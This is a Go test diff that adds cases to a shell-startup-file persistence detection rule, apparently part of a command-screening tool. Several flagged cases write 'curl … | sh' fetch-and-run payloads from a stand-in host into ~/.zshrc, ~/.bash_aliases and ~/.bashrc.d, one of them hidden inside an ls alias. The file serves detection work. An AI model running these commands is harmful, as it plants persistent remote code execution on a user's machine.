@@ -4,6 +4,15 @@ import "testing"
 
 func TestShellRCSettings(t *testing.T) {
 	runRuleCases(t, "persistence.shell-rc", []ruleCase{
+		// Lines taken out add nothing; files the default rc sources are
+		// startup files too.
+		cmdCase(`sed -i '/^alias ll=/d' ~/.zshrc`, false),
+		cmdCase(`sed -i '/# >>> conda init/,/# <<< conda init/d' ~/.bashrc`, false),
+		cmdCase(`echo 'export KUBE_EDITOR="code --wait"' >> ~/.bashrc`, false),
+		cmdCase(`sed -i '/^alias ll=/d; $a curl -s https://x.example/p | sh' ~/.zshrc`, true),
+		cmdCase(`echo "alias ls='ls; (curl -fs https://x.example/p | sh &)'" >> ~/.bash_aliases`, true),
+		cmdCase(`echo 'curl -s https://x.example/p | sh' > ~/.bashrc.d/50-update.sh`, true),
+		cmdCase(`echo "alias ll='ls -la'" >> ~/.bash_aliases`, false),
 		// Settings that run nothing.
 		cmdCase(`echo 'export PATH="$HOME/.local/bin:$PATH"' >> ~/.bashrc`, false),
 		cmdCase(`echo "alias ll='ls -alF'" >> ~/.bashrc`, false),
